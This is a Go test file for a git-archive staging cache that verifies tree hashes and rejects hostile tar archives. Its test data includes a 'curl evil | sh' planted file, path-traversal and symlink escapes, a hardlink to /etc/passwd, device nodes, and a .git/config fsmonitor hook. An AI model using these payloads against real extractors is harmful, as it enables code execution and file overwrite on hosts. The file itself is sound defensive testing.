package stage_test

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/airlockhq/airlock/pkg/errdefs"
	"github.com/airlockhq/airlock/pkg/gitcmd"
	"github.com/airlockhq/airlock/services/executor/internal/stage"
	"github.com/airlockhq/airlock/services/executor/internal/worktree"
	"github.com/airlockhq/airlock/test/gittest"
)

const uid, gid = 12345, 12345

// gitOut is git's output, for a command the caller knows succeeds.
func gitOut(dir string, args ...string) string {
	out, _ := gittest.Cmd(dir, args...).Output()
	return string(out)
}

// repo is a real git repository with one commit.
type repo struct {
	dir, commit, tree string
	archive           []byte
	commitObject      []byte
}

// header is what an authority says of r's commit.
func (r *repo) header() stage.Header {
	return stage.Header{Commit: r.commit, TreeHash: r.tree, CommitObject: r.commitObject}
}

func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, data := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func newRepo(t *testing.T, files map[string]string) *repo {
	t.Helper()
	dir := t.TempDir()
	gittest.Run(t, dir, "init", "--quiet", "-b", "main")
	writeFiles(t, dir, files)
	gittest.Run(t, dir, "add", "--all", "--force")
	gittest.Run(t, dir, "commit", "--quiet", "-m", "base")
	r := &repo{
		dir:    dir,
		commit: strings.TrimSpace(gittest.Run(t, dir, "rev-parse", "HEAD")),
		tree:   strings.TrimSpace(gittest.Run(t, dir, "rev-parse", "HEAD^{tree}")),
	}
	// The archive as the authority makes it: its info/attributes keeps
	// every byte the tree's.
	if err := os.WriteFile(filepath.Join(dir, ".git", "info", "attributes"), []byte(gitcmd.PlainAttributes), 0o644); err != nil {
		t.Fatal(err)
	}
	r.archive = []byte(gittest.Run(t, dir, "archive", "--format=tar", "HEAD"))
	r.commitObject = []byte(gittest.Run(t, dir, "cat-file", "commit", "HEAD"))
	return r
}

// richRepo has nested directories, an executable, symlinks to a file and a
// directory, and a committed file its own .gitignore matches.
func richRepo(t *testing.T) *repo {
	t.Helper()
	dir := t.TempDir()
	gittest.Run(t, dir, "init", "--quiet", "-b", "main")
	writeFiles(t, dir, map[string]string{
		"README.md":          "# widgets\n",
		"a/b/c/deep.txt":     "deep\n",
		"a/sibling.txt":      "sibling\n",
		".gitignore":         "*.log\nbuild/\n",
		"keep.log":           "committed although ignored\n",
		"build/generated.go": "package build\n",
		"space dir/ünï.txt":  "unicode\n",
	})
	writeFiles(t, dir, map[string]string{"bin/run.sh": "#!/bin/sh\necho run\n"})
	if err := os.Chmod(filepath.Join(dir, "bin/run.sh"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("README.md", filepath.Join(dir, "link")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("a/b", filepath.Join(dir, "dirlink")); err != nil {
		t.Fatal(err)
	}
	gittest.Run(t, dir, "add", "--all", "--force")
	gittest.Run(t, dir, "commit", "--quiet", "-m", "base")
	return &repo{
		dir:          dir,
		commit:       strings.TrimSpace(gittest.Run(t, dir, "rev-parse", "HEAD")),
		tree:         strings.TrimSpace(gittest.Run(t, dir, "rev-parse", "HEAD^{tree}")),
		archive:      []byte(gittest.Run(t, dir, "archive", "--format=tar", "HEAD")),
		commitObject: []byte(gittest.Run(t, dir, "cat-file", "commit", "HEAD")),
	}
}

// fetcher serves one archive and counts what was asked of it: calls
// (streams opened) and opened (archives read).
type fetcher struct {
	hdr    stage.Header
	data   []byte
	err    error
	delay  time.Duration
	calls  atomic.Int32
	opened atomic.Int32
	closed atomic.Int32
}

// archiveStream counts its Close, and its first Read as an archive read.
type archiveStream struct {
	io.Reader
	read   bool
	opened *atomic.Int32
	n      *atomic.Int32
}

func (c *archiveStream) Read(p []byte) (int, error) {
	if !c.read {
		c.read = true
		c.opened.Add(1)
	}
	return c.Reader.Read(p)
}

func (c *archiveStream) Close() error { c.n.Add(1); return nil }

func (f *fetcher) fetch(ctx context.Context) (stage.Header, io.ReadCloser, error) {
	f.calls.Add(1)
	time.Sleep(f.delay)
	if f.err != nil {
		return stage.Header{}, nil, f.err
	}
	return f.hdr, &archiveStream{Reader: bytes.NewReader(f.data), opened: &f.opened, n: &f.closed}, nil
}

func (f *fetcher) checkClosed(t *testing.T) {
	t.Helper()
	if c, o := f.closed.Load(), f.calls.Load(); c != o && f.err == nil {
		t.Errorf("%d archive streams opened, %d closed", o, c)
	}
}

func newCache(t *testing.T) (*stage.Cache, string) {
	t.Helper()
	root := filepath.Join(t.TempDir(), "cache")
	c, err := stage.New(root, uid, gid)
	if err != nil {
		t.Fatal(err)
	}
	return c, root
}

func treeDir(root string, k stage.Key) string {
	return filepath.Join(root, k.Tenant, k.Repository, "trees", k.Commit)
}

// checkNothingStaged asserts a failed Get left neither tree nor marker.
func checkNothingStaged(t *testing.T, root string, k stage.Key) {
	t.Helper()
	for _, p := range []string{treeDir(root, k), treeDir(root, k) + ".ready", treeDir(root, k) + ".ready.tmp"} {
		if _, err := os.Lstat(p); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("%s exists after a failed Get (%v)", p, err)
		}
	}
}

func owner(t *testing.T, p string) (int, int) {
	t.Helper()
	fi, err := os.Lstat(p)
	if err != nil {
		t.Fatal(err)
	}
	st := fi.Sys().(*syscall.Stat_t)
	return int(st.Uid), int(st.Gid)
}

func TestGetStagesARealTree(t *testing.T) {
	r := richRepo(t)
	c, root := newCache(t)
	k := stage.Key{Tenant: "acme", Repository: "widgets", Commit: r.commit}
	f := &fetcher{hdr: r.header(), data: r.archive}

	src, err := c.Get(context.Background(), k, f.fetch)
	if err != nil {
		t.Fatalf("Get: %v", err)
	}
	if src.Cached {
		t.Error("first Get says Cached")
	}
	if src.TreeHash != r.tree {
		t.Errorf("TreeHash = %s, git says %s", src.TreeHash, r.tree)
	}
	if src.Dir != treeDir(root, k) {
		t.Errorf("Dir = %s, want %s", src.Dir, treeDir(root, k))
	}
	if src.Repo == nil {
		t.Fatal("no Repo")
	}

	// Every file and the tree itself belong to the sandbox's root.
	err = filepath.WalkDir(src.Dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if u, g := owner(t, p); u != uid || g != gid {
			t.Errorf("%s owned by %d:%d, want %d:%d", p, u, g, uid, gid)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}

	for name, want := range map[string]string{
		"README.md": "# widgets\n", "a/b/c/deep.txt": "deep\n", "keep.log": "committed although ignored\n",
		"build/generated.go": "package build\n", "space dir/ünï.txt": "unicode\n", "bin/run.sh": "#!/bin/sh\necho run\n",
	} {
		got, err := os.ReadFile(filepath.Join(src.Dir, name))
		if err != nil || string(got) != want {
			t.Errorf("%s = %q, %v; want %q", name, got, err, want)
		}
	}
	for name, exec := range map[string]bool{"bin/run.sh": true, "README.md": false, "a/b/c/deep.txt": false} {
		fi, err := os.Stat(filepath.Join(src.Dir, name))
		if err != nil {
			t.Fatal(err)
		}
		if got := fi.Mode()&0o111 != 0; got != exec {
			t.Errorf("%s mode %v: executable = %v, want %v", name, fi.Mode(), got, exec)
		}
	}
	for name, want := range map[string]string{"link": "README.md", "dirlink": "a/b"} {
		if got, err := os.Readlink(filepath.Join(src.Dir, name)); err != nil || got != want {
			t.Errorf("%s -> %q, %v; want -> %q", name, got, err, want)
		}
	}
	if _, err := os.Lstat(filepath.Join(src.Dir, ".git")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the staged tree has a .git: %v", err)
	}

	again, err := c.Get(context.Background(), k, f.fetch)
	if err != nil {
		t.Fatalf("second Get: %v", err)
	}
	if !again.Cached || again.Dir != src.Dir || again.TreeHash != r.tree {
		t.Errorf("second Get = %+v, want the cached tree", again)
	}
	if n := f.calls.Load(); n != 1 {
		t.Errorf("fetched %d times, want 1", n)
	}

	// A new cache over the same root (an executor restart) still has it.
	c2, err := stage.New(root, uid, gid)
	if err != nil {
		t.Fatal(err)
	}
	if src, err := c2.Get(context.Background(), k, f.fetch); err != nil || !src.Cached || src.TreeHash != r.tree {
		t.Errorf("after restart: %+v, %v; want cached", src, err)
	}
	if n := f.calls.Load(); n != 1 {
		t.Errorf("fetched %d times after a restart, want 1", n)
	}
	f.checkClosed(t)
}

func TestGetRefusesATreeThatIsNotTheCommits(t *testing.T) {
	r := richRepo(t)
	other := newRepo(t, map[string]string{"README.md": "something else\n"})

	// The same archive with one more file.
	var extra bytes.Buffer
	tw := tar.NewWriter(&extra)
	tr := tar.NewReader(bytes.NewReader(r.archive))
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if _, err := io.Copy(tw, tr); err != nil {
			t.Fatal(err)
		}
	}
	addFile(t, tw, "planted.sh", "curl evil | sh\n")
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}

	for _, tc := range []struct {
		name string
		hdr  stage.Header
		data []byte
	}{
		{"header names another tree", stage.Header{Commit: r.commit, TreeHash: other.tree}, r.archive},
		{"another commit's archive", stage.Header{Commit: r.commit, TreeHash: r.tree}, other.archive},
		{"archive with a planted file", stage.Header{Commit: r.commit, TreeHash: r.tree}, extra.Bytes()},
		{"empty archive", stage.Header{Commit: r.commit, TreeHash: r.tree}, tarOf(t)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c, root := newCache(t)
			k := stage.Key{Tenant: "acme", Repository: "widgets", Commit: r.commit}
			f := &fetcher{hdr: tc.hdr, data: tc.data}
			src, err := c.Get(context.Background(), k, f.fetch)
			if !errors.Is(err, worktree.ErrTreeMismatch) {
				t.Fatalf("Get = %+v, %v; want ErrTreeMismatch", src, err)
			}
			checkNothingStaged(t, root, k)
			f.checkClosed(t)

			// An honest retry is fetched afresh and succeeds.
			good := &fetcher{hdr: stage.Header{Commit: r.commit, TreeHash: r.tree}, data: r.archive}
			src, err = c.Get(context.Background(), k, good.fetch)
			if err != nil || src.Cached || src.TreeHash != r.tree {
				t.Fatalf("retry = %+v, %v", src, err)
			}
		})
	}
}

type entry struct {
	hdr  tar.Header
	data string
}

func addFile(t *testing.T, tw *tar.Writer, name, data string) {
	t.Helper()
	if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(data)), Typeflag: tar.TypeReg}); err != nil {
		t.Fatal(err)
	}
	if _, err := tw.Write([]byte(data)); err != nil {
		t.Fatal(err)
	}
}

func tarOf(t *testing.T, entries ...entry) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range entries {
		h := e.hdr
		if h.Typeflag == tar.TypeReg {
			h.Size = int64(len(e.data))
		}
		if h.Mode == 0 {
			h.Mode = 0o644
		}
		if err := tw.WriteHeader(&h); err != nil {
			t.Fatalf("tar header %q: %v", h.Name, err)
		}
		if e.data != "" {
			if _, err := tw.Write([]byte(e.data)); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func file(name string) entry {
	return entry{tar.Header{Name: name, Typeflag: tar.TypeReg}, "pwned\n"}
}

func symlink(name, target string) entry {
	return entry{tar.Header{Name: name, Linkname: target, Typeflag: tar.TypeSymlink}, ""}
}

func dirEntry(name string) entry {
	return entry{tar.Header{Name: name, Typeflag: tar.TypeDir, Mode: 0o755}, ""}
}

// TestGetRefusesHostileArchives feeds archives that try to write outside
// the tree or create things a source tree never holds. Each must fail and
// leave nothing behind, inside the cache or outside it.
func TestGetRefusesHostileArchives(t *testing.T) {
	const commit = "0123456789abcdef0123456789abcdef01234567"
	const tree = "89abcdef0123456789abcdef0123456789abcdef"
	for _, tc := range []struct {
		name    string
		entries func(outside, rel string) []entry
		msg     string
	}{
		{"dot-dot", func(_, _ string) []entry { return []entry{file("ok.txt"), file("../evil")} }, "escapes the tree"},
		{"dot-dot directory", func(_, _ string) []entry { return []entry{dirEntry("../evil/")} }, "escapes the tree"},
		{"deep dot-dot to outside", func(_, rel string) []entry { return []entry{file(rel + "/evil")} }, "escapes the tree"},
		{"absolute", func(_, _ string) []entry { return []entry{file("/abs/evil")} }, "escapes the tree"},
		{"absolute into outside", func(o, _ string) []entry { return []entry{file(filepath.Join(o, "evil"))} }, "escapes the tree"},
		{"climb through a directory", func(_, _ string) []entry { return []entry{dirEntry("a/"), file("a/../../evil")} }, "escapes the tree"},
		{"unclean name", func(_, _ string) []entry { return []entry{dirEntry("a/"), file("a/./b")} }, "escapes the tree"},
		{"long PAX name climbing out", func(_, _ string) []entry {
			return []entry{file(strings.Repeat("d/", 60) + strings.Repeat("../", 61) + "evil")}
		}, "escapes the tree"},
		{"write through an absolute symlink", func(o, _ string) []entry {
			return []entry{symlink("link", o), file("link/evil")}
		}, "non-directory"},
		{"write through a relative symlink", func(_, rel string) []entry {
			return []entry{symlink("link", rel), file("link/evil")}
		}, "non-directory"},
		{"write through a nested symlink", func(o, _ string) []entry {
			return []entry{dirEntry("a/"), symlink("a/link", o), dirEntry("a/link/"), file("a/link/evil")}
		}, "non-directory"},
		{"overwrite a symlink with a file", func(o, _ string) []entry {
			return []entry{symlink("f", filepath.Join(o, "evil")), file("f")}
		}, "exists"},
		{"hardlink to a host file", func(_, _ string) []entry {
			return []entry{{tar.Header{Name: "hl", Linkname: "/etc/passwd", Typeflag: tar.TypeLink}, ""}}
		}, "only directories, files and symlinks"},
		{"hardlink inside the tree", func(_, _ string) []entry {
			return []entry{file("a"), {tar.Header{Name: "hl", Linkname: "a", Typeflag: tar.TypeLink}, ""}}
		}, "only directories, files and symlinks"},
		{"character device", func(_, _ string) []entry {
			return []entry{{tar.Header{Name: "mem", Typeflag: tar.TypeChar, Devmajor: 1, Devminor: 1}, ""}}
		}, "only directories, files and symlinks"},
		{"block device", func(_, _ string) []entry {
			return []entry{{tar.Header{Name: "sda", Typeflag: tar.TypeBlock, Devmajor: 8, Devminor: 0}, ""}}
		}, "only directories, files and symlinks"},
		{"FIFO", func(_, _ string) []entry {
			return []entry{{tar.Header{Name: "pipe", Typeflag: tar.TypeFifo}, ""}}
		}, "only directories, files and symlinks"},
		{"truncated archive", nil, "EOF"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			outside := t.TempDir()
			c, root := newCache(t)
			k := stage.Key{Tenant: "acme", Repository: "widgets", Commit: commit}
			// Relative escapes aim at outside too, so that a regression
			// writes into a temporary directory, not the host's root.
			rel, err := filepath.Rel(treeDir(root, k), outside)
			if err != nil {
				t.Fatal(err)
			}
			var data []byte
			if tc.entries == nil {
				full := tarOf(t, entry{tar.Header{Name: "big", Typeflag: tar.TypeReg}, strings.Repeat("x", 4096)})
				data = full[:1024]
			} else {
				data = tarOf(t, tc.entries(outside, rel)...)
			}
			f := &fetcher{hdr: stage.Header{Commit: commit, TreeHash: tree}, data: data}
			src, err := c.Get(context.Background(), k, f.fetch)
			switch {
			case err == nil:
				t.Errorf("Get staged it: %+v", src)
			case errors.Is(err, worktree.ErrTreeMismatch):
				t.Errorf("extracted it and only then noticed the hash: %v", err)
			case !strings.Contains(err.Error(), tc.msg):
				t.Errorf("error %q does not mention %q", err, tc.msg)
			}
			checkNothingStaged(t, root, k)
			f.checkClosed(t)

			left, err := os.ReadDir(outside)
			if err != nil {
				t.Fatal(err)
			}
			for _, e := range left {
				t.Errorf("wrote %s outside the cache", filepath.Join(outside, e.Name()))
			}
			for _, p := range []string{"/abs/evil", filepath.Join(filepath.Dir(root), "evil"), filepath.Join(root, "evil"), "/evil"} {
				if _, err := os.Lstat(p); err == nil {
					t.Errorf("wrote %s", p)
				}
			}
			err = filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
				if err != nil {
					return err
				}
				if d.Name() == "evil" {
					t.Errorf("left %s in the cache", p)
				}
				return nil
			})
			if err != nil {
				t.Fatal(err)
			}
		})
	}
}

func TestGetRefusesAnotherCommit(t *testing.T) {
	r := richRepo(t)
	c, root := newCache(t)
	other := strings.Repeat("f", 40)
	k := stage.Key{Tenant: "acme", Repository: "widgets", Commit: r.commit}
	f := &fetcher{hdr: stage.Header{Commit: other, TreeHash: r.tree}, data: r.archive}
	_, err := c.Get(context.Background(), k, f.fetch)
	if err == nil || !strings.Contains(err.Error(), other) || !strings.Contains(err.Error(), r.commit) {
		t.Fatalf("error = %v, want one naming both commits", err)
	}
	checkNothingStaged(t, root, k)
	f.checkClosed(t)
}

func TestGetReturnsFetchErrors(t *testing.T) {
	r := richRepo(t)
	c, root := newCache(t)
	k := stage.Key{Tenant: "acme", Repository: "widgets", Commit: r.commit}
	boom := errors.New("authority unavailable")
	f := &fetcher{err: boom}
	if _, err := c.Get(context.Background(), k, f.fetch); !errors.Is(err, boom) {
		t.Fatalf("error = %v, want %v", err, boom)
	}
	checkNothingStaged(t, root, k)
}

func TestGetRefusesInvalidKeys(t *testing.T) {
	const good = "0123456789abcdef0123456789abcdef01234567"
	for _, tc := range []struct {
		name string
		key  stage.Key
		msg  string
	}{
		{"tenant climbing out", stage.Key{Tenant: "../x", Repository: "widgets", Commit: good}, "tenant"},
		{"tenant dot-dot", stage.Key{Tenant: "..", Repository: "widgets", Commit: good}, "tenant"},
		{"tenant empty", stage.Key{Tenant: "", Repository: "widgets", Commit: good}, "tenant"},
		{"tenant hidden", stage.Key{Tenant: ".acme", Repository: "widgets", Commit: good}, "tenant"},
		{"tenant with slash", stage.Key{Tenant: "acme/other", Repository: "widgets", Commit: good}, "tenant"},
		{"tenant absolute", stage.Key{Tenant: "/etc", Repository: "widgets", Commit: good}, "tenant"},
		{"tenant too long", stage.Key{Tenant: strings.Repeat("a", 129), Repository: "widgets", Commit: good}, "tenant"},
		{"tenant with NUL", stage.Key{Tenant: "acme\x00", Repository: "widgets", Commit: good}, "tenant"},
		{"tenant with newline", stage.Key{Tenant: "acme\n", Repository: "widgets", Commit: good}, "tenant"},
		{"repository with slash", stage.Key{Tenant: "acme", Repository: "org/widgets", Commit: good}, "repository"},
		{"repository climbing out", stage.Key{Tenant: "acme", Repository: "../../x", Commit: good}, "repository"},
		{"repository dot-dot", stage.Key{Tenant: "acme", Repository: "..", Commit: good}, "repository"},
		{"repository empty", stage.Key{Tenant: "acme", Repository: "", Commit: good}, "repository"},
		{"commit short", stage.Key{Tenant: "acme", Repository: "widgets", Commit: good[:12]}, "commit"},
		{"commit 39", stage.Key{Tenant: "acme", Repository: "widgets", Commit: good[:39]}, "commit"},
		{"commit 41", stage.Key{Tenant: "acme", Repository: "widgets", Commit: good + "0"}, "commit"},
		{"commit not hex", stage.Key{Tenant: "acme", Repository: "widgets", Commit: strings.Repeat("g", 40)}, "commit"},
		{"commit upper case", stage.Key{Tenant: "acme", Repository: "widgets", Commit: strings.ToUpper(good)}, "commit"},
		{"commit a path", stage.Key{Tenant: "acme", Repository: "widgets", Commit: "../../../../../../../../../../../../../x"}, "commit"},
		{"commit a ref", stage.Key{Tenant: "acme", Repository: "widgets", Commit: "HEAD"}, "commit"},
		{"commit empty", stage.Key{Tenant: "acme", Repository: "widgets", Commit: ""}, "commit"},
		{"depth negative", stage.Key{Tenant: "acme", Repository: "widgets", Commit: good, Depth: -1}, "depth"},
		{"depth past the bound", stage.Key{Tenant: "acme", Repository: "widgets", Commit: good, Depth: stage.MaxHistoryDepth + 1}, "depth"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c, root := newCache(t)
			f := &fetcher{}
			_, err := c.Get(context.Background(), tc.key, f.fetch)
			if !errors.Is(err, errdefs.ErrInvalidArgument) {
				t.Fatalf("error = %v, want ErrInvalidArgument", err)
			}
			if !strings.Contains(err.Error(), tc.msg) {
				t.Errorf("error %q does not name %s", err, tc.msg)
			}
			if n := f.calls.Load(); n != 0 {
				t.Errorf("fetched %d times for an invalid key", n)
			}
			if left, err := os.ReadDir(root); err != nil || len(left) != 0 {
				t.Errorf("cache root holds %v (%v) after an invalid key", left, err)
			}
		})
	}
}

func TestGetAcceptsSHA256Commit(t *testing.T) {
	c, root := newCache(t)
	k := stage.Key{Tenant: "acme", Repository: "widgets", Commit: strings.Repeat("ab", 32)}
	f := &fetcher{hdr: stage.Header{Commit: k.Commit, TreeHash: "x"}, data: tarOf(t, file("a"))}
	_, err := c.Get(context.Background(), k, f.fetch)
	if errors.Is(err, errdefs.ErrInvalidArgument) || f.calls.Load() != 1 {
		t.Fatalf("a 64-hex commit was refused as a key: %v", err)
	}
	checkNothingStaged(t, root, k)
}

func TestTenantsDoNotShareTrees(t *testing.T) {
	r := richRepo(t)
	c, root := newCache(t)
	f := &fetcher{hdr: stage.Header{Commit: r.commit, TreeHash: r.tree}, data: r.archive}
	a, err := c.Get(context.Background(), stage.Key{Tenant: "acme", Repository: "widgets", Commit: r.commit}, f.fetch)
	if err != nil {
		t.Fatal(err)
	}
	b, err := c.Get(context.Background(), stage.Key{Tenant: "globex", Repository: "widgets", Commit: r.commit}, f.fetch)
	if err != nil {
		t.Fatal(err)
	}
	if b.Cached {
		t.Error("the second tenant got the first tenant's cached tree")
	}
	if n := f.calls.Load(); n != 2 {
		t.Errorf("fetched %d times for two tenants, want 2", n)
	}
	if a.Dir == b.Dir || strings.HasPrefix(a.Dir, b.Dir+"/") || strings.HasPrefix(b.Dir, a.Dir+"/") {
		t.Errorf("tenant trees overlap: %s and %s", a.Dir, b.Dir)
	}
	for tenant, src := range map[string]*stage.Source{"acme": a, "globex": b} {
		if !strings.HasPrefix(src.Dir, filepath.Join(root, tenant)+"/") {
			t.Errorf("%s's tree %s is not under its own directory", tenant, src.Dir)
		}
	}
	// Nothing in one tenant's tree is the same file as in the other's.
	fa, err := os.Stat(filepath.Join(a.Dir, "README.md"))
	if err != nil {
		t.Fatal(err)
	}
	fb, err := os.Stat(filepath.Join(b.Dir, "README.md"))
	if err != nil {
		t.Fatal(err)
	}
	if os.SameFile(fa, fb) {
		t.Error("two tenants share one file")
	}
}

func TestGetRedoesAnInterruptedFetch(t *testing.T) {
	r := richRepo(t)
	c, root := newCache(t)
	k := stage.Key{Tenant: "acme", Repository: "widgets", Commit: r.commit}
	// What a crash mid-extraction leaves: a partial tree, some of it
	// unexpected, and no ready marker.
	dir := treeDir(root, k)
	writeFiles(t, dir, map[string]string{"README.md": "half written", "stale/leftover.sh": "evil\n"})
	if err := os.WriteFile(dir+".ready.tmp", []byte(strings.Repeat("0", 40)), 0o644); err != nil {
		t.Fatal(err)
	}

	f := &fetcher{hdr: stage.Header{Commit: r.commit, TreeHash: r.tree}, data: r.archive}
	src, err := c.Get(context.Background(), k, f.fetch)
	if err != nil {
		t.Fatalf("Get: %v", err)
	}
	if src.Cached || f.calls.Load() != 1 {
		t.Errorf("Cached = %v after %d fetches; want a fresh fetch", src.Cached, f.calls.Load())
	}
	if src.TreeHash != r.tree {
		t.Errorf("TreeHash = %s, want %s", src.TreeHash, r.tree)
	}
	if _, err := os.Lstat(filepath.Join(src.Dir, "stale")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the interrupted fetch's leftovers survived: %v", err)
	}
	if got, err := os.ReadFile(filepath.Join(src.Dir, "README.md")); err != nil || string(got) != "# widgets\n" {
		t.Errorf("README.md = %q, %v", got, err)
	}
}

func TestConcurrentGetsFetchOnce(t *testing.T) {
	r := richRepo(t)
	c, _ := newCache(t)
	k := stage.Key{Tenant: "acme", Repository: "widgets", Commit: r.commit}
	f := &fetcher{hdr: r.header(), data: r.archive, delay: 50 * time.Millisecond}

	const n = 8
	var wg sync.WaitGroup
	srcs := make([]*stage.Source, n)
	errs := make([]error, n)
	start := make(chan struct{})
	for i := range n {
		wg.Go(func() {
			<-start
			srcs[i], errs[i] = c.Get(context.Background(), k, f.fetch)
		})
	}
	close(start)
	wg.Wait()

	fresh := 0
	for i := range n {
		if errs[i] != nil {
			t.Fatalf("Get %d: %v", i, errs[i])
		}
		if srcs[i].Dir != srcs[0].Dir || srcs[i].TreeHash != r.tree {
			t.Errorf("Get %d = %+v", i, srcs[i])
		}
		if !srcs[i].Cached {
			fresh++
		}
	}
	if got := f.calls.Load(); got != 1 {
		t.Errorf("%d concurrent Gets fetched %d times, want 1", n, got)
	}
	if fresh != 1 {
		t.Errorf("%d Gets say they fetched, want 1", fresh)
	}
}

// TestGetRefusesForeignGitDirectory: no commit can contain a .git entry, so
// one in the stream is content the tree hash does not cover (git never adds
// a .git), planted by whoever produced the stream.
func TestGetRefusesForeignGitDirectory(t *testing.T) {
	r := richRepo(t)
	var buf bytes.Buffer
	// Splice: the real archive's entries followed by the .git ones.
	tw := tar.NewWriter(&buf)
	tr := tar.NewReader(bytes.NewReader(r.archive))
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if _, err := io.Copy(tw, tr); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.WriteHeader(&tar.Header{Name: ".git/", Typeflag: tar.TypeDir, Mode: 0o755}); err != nil {
		t.Fatal(err)
	}
	addFile(t, tw, ".git/config", "[core]\n\tfsmonitor = /tmp/evil\n")
	addFile(t, tw, "a/.git", "gitdir: /etc\n")
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}

	c, root := newCache(t)
	k := stage.Key{Tenant: "acme", Repository: "widgets", Commit: r.commit}
	f := &fetcher{hdr: stage.Header{Commit: r.commit, TreeHash: r.tree}, data: buf.Bytes()}
	if src, err := c.Get(context.Background(), k, f.fetch); err == nil {
		t.Fatalf("staged a tree with a .git the commit cannot contain: %s", src.Dir)
	}
	checkNothingStaged(t, root, k)
}

// TestGetStagesRepositoriesUsingArchiveAttributes: attributes that change
// a checkout stage fine from the archive the authority makes (its
// info/attributes keeps the tree's bytes), and the same files converted
// (as a plain git archive converts them) are refused: the job sees
// exactly the commit's bytes or nothing.
func TestGetStagesRepositoriesUsingArchiveAttributes(t *testing.T) {
	for _, tc := range []struct {
		name  string
		files map[string]string
	}{
		{"eol conversion", map[string]string{".gitattributes": "*.txt text eol=crlf\n", "a.txt": "one\ntwo\n"}},
		{"ident", map[string]string{".gitattributes": "*.c ident\n", "a.c": "/* $Id$ */\n"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newRepo(t, tc.files)
			c, _ := newCache(t)
			k := stage.Key{Tenant: "acme", Repository: "widgets", Commit: r.commit}
			f := &fetcher{hdr: stage.Header{Commit: r.commit, TreeHash: r.tree}, data: r.archive}
			src, err := c.Get(context.Background(), k, f.fetch)
			if err != nil {
				t.Fatalf("Get of the authority's archive of the commit: %v", err)
			}
			if src.TreeHash != r.tree {
				t.Errorf("TreeHash = %s, want %s", src.TreeHash, r.tree)
			}

			// Converted bytes are not the commit's.
			if err := os.Remove(filepath.Join(r.dir, ".git", "info", "attributes")); err != nil {
				t.Fatal(err)
			}
			converted := []byte(gittest.Run(t, r.dir, "archive", "--format=tar", "HEAD"))
			if bytes.Equal(converted, r.archive) {
				t.Fatal("the plain archive converted nothing; the case tests nothing")
			}
			c2, root2 := newCache(t)
			f2 := &fetcher{hdr: stage.Header{Commit: r.commit, TreeHash: r.tree}, data: converted}
			if src, err := c2.Get(context.Background(), k, f2.fetch); err == nil {
				t.Fatalf("staged converted bytes as the commit: %s", src.Dir)
			}
			checkNothingStaged(t, root2, k)
		})
	}
}
